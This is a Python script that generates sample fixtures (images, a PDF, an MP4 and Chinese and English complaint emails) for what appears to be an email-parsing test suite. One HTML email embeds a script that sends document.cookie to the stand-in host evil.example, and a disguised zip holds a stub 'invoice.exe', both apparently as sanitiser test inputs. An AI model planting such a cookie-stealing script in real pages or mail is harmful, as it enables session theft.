"""Regenerate the sample files in this folder: ``python make_samples.py`` (needs Pillow).

The outputs are committed, so tests do not depend on this script; it documents how they were made.
"""

import base64
import io
import struct
import zipfile
from pathlib import Path
from urllib.parse import quote

from PIL import Image

HERE = Path(__file__).parent


def png() -> bytes:
    image = Image.new("RGBA", (64, 48))
    for x in range(64):
        for y in range(48):
            image.putpixel((x, y), (x * 4, y * 5, 128, 255 if x < 48 else 96))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def jpeg() -> bytes:
    image = Image.new("RGB", (400, 300), (200, 60, 40))
    for x in range(0, 400, 20):
        for y in range(300):
            image.putpixel((x, y), (255, 255, 255))
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=85)
    return out.getvalue()


def pdf() -> bytes:
    """A one-page PDF 1.4 written by hand, with a correct cross-reference table."""
    content = b"BT /F1 18 Tf 30 60 Td (Test report: lead content 12 mg/kg, limit 90 mg/kg) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 144] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n" % (len(objects) + 1)
    out += b"0000000000 65535 f \n"
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4() -> bytes:
    """A minimal, structurally valid ISO base media file: ftyp, free, empty mdat, moov with mvhd
    (no tracks: a zero-length movie)."""
    ftyp = box(b"ftyp", b"isom" + struct.pack(">I", 0x200) + b"isomiso2avc1mp41")
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    mvhd = box(
        b"mvhd",
        struct.pack(">B3xIIII", 0, 0, 0, 1000, 0)  # version, flags, created, modified, timescale, duration
        + struct.pack(">IH10x", 0x10000, 0x100)  # rate 1.0, volume 1.0, reserved
        + matrix
        + bytes(24)  # pre_defined
        + struct.pack(">I", 1),  # next_track_ID
    )
    return ftyp + box(b"free", b"") + box(b"mdat", b"") + box(b"moov", mvhd)


def fake_image_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("invoice.exe", date_time=(2026, 11, 20, 12, 0, 0))  # reproducible bytes
        archive.writestr(entry, b"MZ\x90\x00" + bytes(60))
    return out.getvalue()


CHAT_LOG = """2026-11-20 14:02:11 买家(zhang_san): 你好，收到的电饭煲内胆有划痕，能换一个吗？
2026-11-20 14:05:43 商家客服(小美): 亲，麻烦拍一下划痕和外包装的照片哦
2026-11-20 14:10:02 买家(zhang_san): [图片] 已发
2026-11-20 16:30:20 商家客服(小美): 这是正常使用痕迹，不支持换货
2026-11-21 09:12:55 买家(zhang_san): 我还没用过！我要投诉
"""


def b64(text: str, charset: str) -> str:
    return base64.b64encode(text.encode(charset)).decode("ascii")


def eml_gb2312_complaint() -> bytes:
    """Foxmail-style new complaint: GB2312 subject and sender name, GBK body (with 镕, not in GB2312)."""
    body = "您好：\r\n我在贵平台购买的电饭煲（订单号 2026112012345678）内胆有划痕，卖家朱镕拒绝换货。\r\n请处理。\r\n"
    return (
        "Return-Path: <zhangsan@example.cn>\r\n"
        f"From: =?GB2312?B?{b64('张三', 'gb2312')}?= <ZhangSan@Example.CN>\r\n"
        "To: service@marketguard.example\r\n"
        f"Subject: =?GB2312?B?{b64('投诉：电饭煲内胆有划痕，要求换货', 'gb2312')}?=\r\n"
        "Date: Fri, 20 Nov 2026 21:15:02 +0800\r\n"
        "Message-ID: <202611202115020123456@example.cn>\r\n"
        "X-Mailer: Foxmail 7.2.25.228[cn]\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="gb2312"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + base64.encodebytes(body.encode("gbk")).decode("ascii").replace("\n", "\r\n")
    ).encode("ascii")


def eml_reply_subject_qq() -> bytes:
    """QQ Mail reply: case number in the subject, Chinese quoted history below the separator."""
    body = (
        "补充一下：划痕照片在附件里，外包装也拍了。\n"
        "希望尽快处理，谢谢！\n"
        "\n"
        "------------------ 原始邮件 ------------------\n"
        '发件人: "MarketGuard 客服"<service@marketguard.example>;\n'
        "发送时间: 2026年11月22日(星期天) 上午10:00\n"
        '收件人: "张三"<zhangsan@example.cn>;\n'
        "主题: [CS20261122000123] 您的投诉已受理\n"
        "\n"
        "您好，您的投诉已受理，请补充划痕照片。\n"
    )
    return (
        f"From: =?utf-8?B?{b64('张三', 'utf-8')}?= <zhangsan@example.cn>\r\n"
        "To: service@marketguard.example\r\n"
        f"Subject: =?utf-8?B?{b64('回复：[CS20261122000123] 您的投诉已受理', 'utf-8')}?=\r\n"
        "Date: Sun, 22 Nov 2026 11:02:45 +0800\r\n"
        "Message-ID: <tencent_5A1B2C3D4E5F@qq.com>\r\n"
        "In-Reply-To: <CS20261122000123.6f1c2d3e4b5a69788796a5b4c3d2e1f0@marketguard>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="utf-8"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + base64.encodebytes(body.encode("utf-8")).decode("ascii").replace("\n", "\r\n")
    ).encode("ascii")


def eml_reply_references_only() -> bytes:
    """Gmail-style English reply: no case number in the subject, only in References; the
    "On ... wrote:" line is folded over two lines; format=flowed."""
    return (
        "From: Li Wei <li.wei@example.com>\r\n"
        "To: MarketGuard Service <service@marketguard.example>\r\n"
        "Subject: Re: Your complaint has been received\r\n"
        "Date: Mon, 23 Nov 2026 02:30:00 +0000\r\n"
        "Message-ID: <CAF=abc123@mail.gmail.com>\r\n"
        "In-Reply-To: <7d1e2f@other.example>\r\n"
        "References: <7d1e2f@other.example>\r\n"
        " <CS20261122000123.0a1b2c3d4e5f60718293a4b5c6d7e8f9@marketguard>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="UTF-8"; format=flowed\r\n'
        "Content-Transfer-Encoding: 7bit\r\n"
        "\r\n"
        "The seller has still not answered. I would like a refund of the full \r\n"
        "price, please.\r\n"
        "\r\n"
        "On Sun, 22 Nov 2026 at 10:00, MarketGuard Service <service@marketguard.example>\r\n"
        "wrote:\r\n"
        "> Dear customer, your complaint has been received.\r\n"
        "> Case number CS20261122000123.\r\n"
    ).encode("ascii")


def eml_html_only() -> bytes:
    html = """<html><head><title>Complaint</title><style>p { color: red; }</style>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body><p>The blender &amp; its jar arrived <b>cracked</b>.</p>
<p>Order&nbsp;no.&nbsp;2026112098765432<br>Please call me&hellip;</p>
<ul><li>Photo of the box</li><li>Photo of the jar</li></ul>
<div class="gmail_quote"><div>On Sat, 21 Nov 2026, Shop wrote:</div>
<blockquote>We do not accept returns.</blockquote></div>
</body></html>"""
    return (
        'From: "Wang Fang" <wang.fang@example.org>\r\n'
        "To: service@marketguard.example\r\n"
        "Subject: Broken blender\r\n"
        "Date: Sat, 21 Nov 2026 08:00:00 -0500\r\n"
        "Message-ID: <html-only-1@example.org>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/html; charset="utf-8"\r\n'
        "Content-Transfer-Encoding: 7bit\r\n"
        "\r\n" + html.replace("\n", "\r\n")
    ).encode("ascii")


def eml_attachments() -> bytes:
    """Mixed mail: alternative text/HTML with an inline image (multipart/related), a JPEG with an
    RFC 2231 UTF-8 Chinese name, a PDF with an RFC 2231 GB2312 name split into continuations,
    and a chat log whose name is an RFC 2047 word in quotes (as some clients write it)."""
    jpg = jpeg()
    pdf_bytes = pdf()
    png_bytes = png()
    name_utf8 = quote("划痕照片.jpg".encode())
    name_gb = quote("检测报告（第一页）.pdf".encode("gb2312"))
    half = len(name_gb) // 2
    while name_gb[half - 1] == "%" or name_gb[half - 2] == "%":  # do not split a %XX escape
        half += 1
    log_word = f"=?GBK?B?{b64('聊天记录.txt', 'gbk')}?="

    def b64lines(data: bytes) -> str:
        return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")

    return (
        f"From: =?utf-8?B?{b64('张三', 'utf-8')}?= <zhangsan@example.cn>\r\n"
        "To: service@marketguard.example\r\n"
        f"Subject: =?utf-8?B?{b64('[CS20261122000123] 补充证据', 'utf-8')}?=\r\n"
        "Date: Sun, 22 Nov 2026 12:00:00 +0800\r\n"
        "Message-ID: <evidence-1@example.cn>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="MIXED"\r\n'
        "\r\n"
        "--MIXED\r\n"
        'Content-Type: multipart/alternative; boundary="ALT"\r\n'
        "\r\n"
        "--ALT\r\n"
        'Content-Type: text/plain; charset="utf-8"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + b64lines("证据见附件：照片、检测报告和聊天记录。\n".encode()) + "\r\n"
        "--ALT\r\n"
        'Content-Type: multipart/related; boundary="REL"\r\n'
        "\r\n"
        "--REL\r\n"
        'Content-Type: text/html; charset="utf-8"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        + b64lines('<p>证据见附件：照片、检测报告和聊天记录。</p><img src="cid:sig@example.cn">'.encode())
        + "\r\n"
        "--REL\r\n"
        "Content-Type: image/png\r\n"
        "Content-ID: <sig@example.cn>\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + b64lines(png_bytes) + "\r\n"
        "--REL--\r\n"
        "--ALT--\r\n"
        "--MIXED\r\n"
        "Content-Type: image/jpeg\r\n"
        f"Content-Disposition: attachment; filename*=UTF-8''{name_utf8}\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + b64lines(jpg) + "\r\n"
        "--MIXED\r\n"
        "Content-Type: application/pdf\r\n"
        "Content-Disposition: attachment;\r\n"
        f" filename*0*=gb2312''{name_gb[:half]};\r\n"
        f" filename*1*={name_gb[half:]}\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + b64lines(pdf_bytes) + "\r\n"
        "--MIXED\r\n"
        f'Content-Type: text/plain; charset="utf-8"; name="{log_word}"\r\n'
        f'Content-Disposition: attachment; filename="{log_word}"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n" + b64lines(CHAT_LOG.encode()) + "\r\n"
        "--MIXED--\r\n"
    ).encode("ascii")


def eml_auto_reply() -> bytes:
    return (
        "From: =?utf-8?B?" + b64("李四", "utf-8") + "?= <lisi@example.cn>\r\n"
        "To: service@marketguard.example\r\n"
        f"Subject: =?utf-8?B?{b64('自动回复: [CS20261122000124] 您的投诉已受理', 'utf-8')}?=\r\n"
        "Date: Sun, 22 Nov 2026 10:00:05 +0800\r\n"
        "Message-ID: <auto-1@example.cn>\r\n"
        "Auto-Submitted: auto-replied\r\n"
        "X-Autoreply: yes\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="utf-8"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        + base64.encodebytes("我正在休假，11月30日回来。\n".encode()).decode("ascii").replace("\n", "\r\n")
    ).encode("ascii")


FILES = {
    "sample.png": png,
    "sample.jpg": jpeg,
    "report.pdf": pdf,
    "clip.mp4": mp4,
    "fake_photo.jpg": fake_image_zip,
    "chat_log.txt": lambda: CHAT_LOG.encode("utf-8"),
    "complaint_gb2312.eml": eml_gb2312_complaint,
    "reply_subject_qq.eml": eml_reply_subject_qq,
    "reply_references_only.eml": eml_reply_references_only,
    "html_only.eml": eml_html_only,
    "attachments.eml": eml_attachments,
    "auto_reply.eml": eml_auto_reply,
}


if __name__ == "__main__":
    for name, make in FILES.items():
        (HERE / name).write_bytes(make())
        print(name, (HERE / name).stat().st_size)
